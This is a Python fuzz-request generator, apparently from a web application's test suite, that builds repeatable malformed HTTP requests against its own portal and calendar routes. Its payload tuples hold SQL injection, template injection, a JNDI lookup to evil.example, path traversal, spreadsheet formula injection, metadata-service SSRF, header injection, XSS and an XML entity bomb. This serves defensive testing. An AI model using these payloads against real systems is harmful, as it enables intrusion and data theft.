"""What nobody should send, drawn by chance that can be repeated: one generator for tests and for `make attack`."""

import json
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from functools import cache
from itertools import cycle
from pathlib import Path
from random import Random
from urllib.parse import urlencode
from uuid import UUID

import permanence
from permanence.foundation.links import Link

HOUSE = Path(permanence.__file__).parent
ASKED = re.compile(r"""(?:GET|POST|sent|data)(?:\.get|\.getlist)?[(\[]\s*"([\w-]+)\"""")
FIELD = re.compile(r"^    (\w+)(?:: [^=]+)? = (?:forms\.)?\w+Field\(", re.MULTILINE)
VERBS = ("PUT", "DELETE", "PATCH", "PROPFIND", "REPORT", "OPTIONS", "HEAD")
NUL = "\x00"
HOSTILE = (
    NUL, "0001-01-01T00:00-23:59", "-1", "9" * 30, "0000-00-00", "9999-12-31T23:59:59+23:59", "9999-12",
    "\ud800é\u202e<script>", "٣²", ":|,",
    "00000000-0000-0000-0000-000000000000", "",
)  # fmt: skip
SEEN_ELSEWHERE = (
    "' OR 1=1--", "%' ESCAPE '", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd",
    "=cmd|' /C calc'!A0", "//evil.example/", "https://evil.example/\\@", "javascript:alert(1)", "NaN", "[]",
    "a\r\nSet-Cookie: x=1", "<img src=x onerror=1>", "http://169.254.169.254/latest/", "1" * 5_000, "a" * 20_000,
    "((((((a+)+)+)+)+)+)+!", "0x7fffffffffffffff", "ﷺ" * 300, "2026-03-29T02:30", "2026-02-30", "24:00", "+33 0 00",
    "@", "a@" + "b." * 200 + "fr", "\ufeff", "null",
)  # fmt: skip
KINDS = (
    "application/json", "application/fhir+json", "application/x-www-form-urlencoded", "text/calendar", "text/xml",
    "multipart/form-data; boundary=x", "message/rfc822", "application/octet-stream", "", "text/plain; charset=utf-7",
)  # fmt: skip
FORM = "application/x-www-form-urlencoded"
SEEDS = (
    b"", b"\x00", b"[" * 5_000, b'{"a":' * 2_000, b'{"resourceType":"Bundle","entry":[{}]}', b"\xff\xfe\x00{", b"null",
    b"grant_type=client_credentials&client_id=%00&client_secret=%ff", b'--x\r\nContent-Disposition: form-data; name="',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>', b"1e999",
    b"BEGIN:VCALENDAR\r\nRRULE:FREQ=SECONDLY;COUNT=999999999\r\n", b'"\\ud800"', b"../" * 40, b'{"number": 1e400}',
    b'<c:calendar-query xmlns:c="urn:ietf:params:xml:ns:caldav"><c:time-range start="9"/></c:calendar-query>',
    b"From: \xff\r\nSubject: =?utf-7?q?+AG?=\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n",
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../a\x00.pdf"\r\n\r\n%PDF-1.7\r\n--x--',
)  # fmt: skip
HEADERS: tuple[dict[str, str], ...] = (
    {}, {}, {"Authorization": "Bearer \xff"}, {"Authorization": "Basic %%%"}, {"Content-Length": "-1"},
    {"Host": "evil.example"}, {"If-Match": 'W/"\x7f"'}, {"Accept-Language": "q" * 900}, {"Depth": "infinity"},
    {"webhook-signature": "v1,"}, {"Searched": "%00%ff"}, {"Accept": "*/*;q=x"}, {"X-Forwarded-For": "'"},
    {"X-Forwarded-Host": "evil.example"}, {"HX-Request": "true", "HX-Target": "'"}, {"Range": "bytes=9-1,-"},
    {"If-Modified-Since": "never"}, {"Cookie": "sessionid=\xff; csrftoken="}, {"Idempotency-Key": "k" * 300},
)  # fmt: skip
# Behind which address stands a signed link: its kind, the table of what it names, and what of a row it names.
LINKS = {
    "portal:appointment": ("agenda.link", "agenda_appointment", "both"),
    "portal:offer": ("waiting.offer", "waiting_offer", "both"),
    "portal:far_offer": ("waiting.offer", "waiting_faroffer", "both"),
    "portal:copy": ("registers.copy", "registers_copy", "both"),
    "portal:formality": ("coverage.formality", "coverage_formality", "both"),
    "portal:entrance": ("agenda.entrance", "agenda_appointment", "structure"),
    "agenda:screen": ("agenda.screen", "agenda_screen", "both"),
    "agenda:feed": ("agenda.feed", "agenda_feed", "both"),
    "practice:booking": ("portal.booking", "portal_booking", "row"),
    "practice:mine_list": ("portal.proof", "portal_proof", "row"),
}
SAME_LINK = {
    "portal:appointment": ("cancellation", "calendar", "move", "presence", "sooner", "remote"),
    "agenda:feed": ("caldav", "caldav_times", "caldav_time"),
    "practice:mine_list": ("mine_readers", "mine_closing", "mine_preferences", "mine_papers", "mine_paper",
                           "mine_paper_back", "mine_form", "mine_thread"),
}  # fmt: skip
Row = tuple[UUID, UUID]  # of which structure, and which


@dataclass(frozen=True, slots=True)
class Blow:
    """One request, but for the path it is sent to."""

    method: str
    query: str
    kind: str
    headers: dict[str, str]
    body: bytes


@cache
def names() -> list[str]:
    """Return every word that some page asks of an address or a form, as the code writes them."""
    code = [file.read_text() for file in HOUSE.glob("*/**/*.py") if "tests" not in file.parts]
    return sorted({name for text in code for pattern in (ASKED, FIELD) for name in pattern.findall(text)})


def written(*values: str) -> str:
    """Write the values under every name, by turns."""
    return _form(zip(names(), cycle(values), strict=False))


def token(address: str, row: Callable[[str], Row | None]) -> str | None:
    """Return what opens an address that stands behind a signed link; None when it does not, or nothing is behind it.

    :param row: returns one row of a table
    """
    room = address.partition(":")[0]
    first = next((one for one, more in SAME_LINK.items() if address in {f"{room}:{name}" for name in more}), address)
    kind, table, named = LINKS.get(first, ("", "", ""))
    found = row(table) if table else None
    if not found:
        return None
    parts = {"both": found, "structure": found[:1], "row": found[1:]}[named]
    return Link(kind).token(*parts)


def blow(chance: Random, methods: Sequence[str]) -> Blow:
    """Draw one request.

    :param methods: those the address answers to; others are drawn too
    """
    method = chance.choice([*methods, *methods, chance.choice(VERBS)])
    kind, body = chance.choice((_bytes, _bytes, _filled, _told))(chance)
    query = ""
    if chance.random() < 0.3:
        query = "?" + _bytes(chance)[1].decode("latin-1")[:200].replace("#", "")
    elif chance.random() < 0.5:
        query = "?" + _filled(chance)[1].decode()[:2_000]
    return Blow(method, query, kind, chance.choice(HEADERS), body)


def _bytes(chance: Random) -> tuple[str, bytes]:
    """Return something that was written by hand, with a few bytes changed, or bytes of no meaning."""
    kind = chance.choice(KINDS)
    if chance.random() < 0.3:
        return kind, chance.randbytes(chance.randrange(200))
    told = bytearray(chance.choice(SEEDS))
    for _ in range(chance.randrange(4)):
        told[chance.randrange(len(told) + 1) : 0] = chance.randbytes(1)
    return kind, bytes(told)


def _filled(chance: Random) -> tuple[str, bytes]:
    """Return a form with some of the names that are asked for."""
    return FORM, _form(_values(chance)).encode()


def _told(chance: Random) -> tuple[str, bytes]:
    """Return the same as a program writes it."""
    told: object = dict(_values(chance))
    return chance.choice(KINDS[:2]), json.dumps([told] if chance.random() < 0.2 else told).encode()


def _values(chance: Random) -> list[tuple[str, str]]:
    return [
        (name, chance.choice(chance.choice((HOSTILE, SEEN_ELSEWHERE))))
        for name in chance.choices(names(), k=chance.randrange(1, 12))
    ]


def _form(values: Iterable[tuple[str, str]]) -> str:
    return urlencode([(name, value.encode("utf-8", "surrogatepass")) for name, value in values])
